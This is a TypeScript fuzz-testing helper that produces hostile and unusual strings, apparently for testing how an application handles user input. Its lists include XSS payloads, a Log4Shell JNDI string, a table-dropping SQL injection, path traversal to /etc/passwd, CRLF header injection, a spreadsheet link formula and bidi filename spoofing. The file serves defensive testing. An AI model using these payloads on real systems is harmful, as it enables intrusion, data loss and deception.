import { numbers } from './numbers.ts';

/** Set when any part of a hostile text runs. */
export const RAN = 'ranHostileText';

const MEGABYTE = 1024 * 1024;

const scripts = [
  `<script>window.${RAN}=1</script>`,
  `"><img src=x onerror="window.${RAN}=1">`,
  `<svg onload=window.${RAN}=1>`,
  `javascript:window.${RAN}=1`,
  `https://a.example/"onmouseover="window.${RAN}=1`,
  `{{constructor.constructor('window.${RAN}=1')()}}`,
  '${jndi:ldap://x.example/a}',
  "'; drop table affiliate_leads; --",
  '</textarea></form><form action=https://x.example>',
];
const oddities = [
  '\u202egpj.exe\u202c',
  '\u2066\u2067isolated\u2069',
  'zero\u200bwidth\u200djoined\ufeff',
  '👩🏽‍🔬 Dr. 𝕯𝖆𝖓𝖆 🧪',
  'Zalgo ȩ̷̛̙͙̪́̓̈́',
  'عبد الرحمن بن محمد',
  '   ',
  '\u00a0\u2003',
  'null \u0000 byte',
  'bell \u0007 and \u001b[31mred',
  'half \ud83d of a pair',
  'tab\tand\nline\r\nbreak',
  '%00%0d%0aSet-Cookie: a=b',
  '../../etc/passwd',
  '=HYPERLINK("https://x.example","x")',
  '__proto__',
  'null',
  '-1e308',
];

/** Hostile texts, and some real names. */
export function hostileTexts(seed: number): { pick: () => string; below: (limit: number) => number } {
  const below = numbers(seed);
  const any = (list: readonly string[]) => list[below(list.length)] ?? '';
  const ranges = [
    [0x20, 0x5f],
    [0x80, 0x2000],
    [0x2000, 0x70],
    [0x4e00, 0x5000],
    [0x1f300, 0x400],
  ] as const;
  const noise = () =>
    Array.from({ length: 1 + below(60) }, () => {
      const [from, size] = ranges[below(ranges.length)] ?? ranges[0];
      return String.fromCodePoint(from + below(size));
    }).join('');
  const kinds = [
    () => any(scripts),
    () => any(oddities),
    noise,
    () => `${any(scripts)} ${any(oddities)}`,
    () => any(['x', '😀', '<b>', 'é']).repeat(100 + below(6000)),
    () => `${any(oddities)}@${any(['mail.example', 'x', '[127.0.0.1]', 'exämple.example'])}`,
    () => `https://www.loom.com/share/${any(scripts)}`,
  ];
  let picked = 0;
  return {
    below,
    // Now and then the text of a whole book.
    pick: () =>
      (picked += 1) % 97 === 30 ? any(['m', '💊', ' ']).repeat(MEGABYTE / 2) : (kinds[below(kinds.length)] ?? noise)(),
  };
}
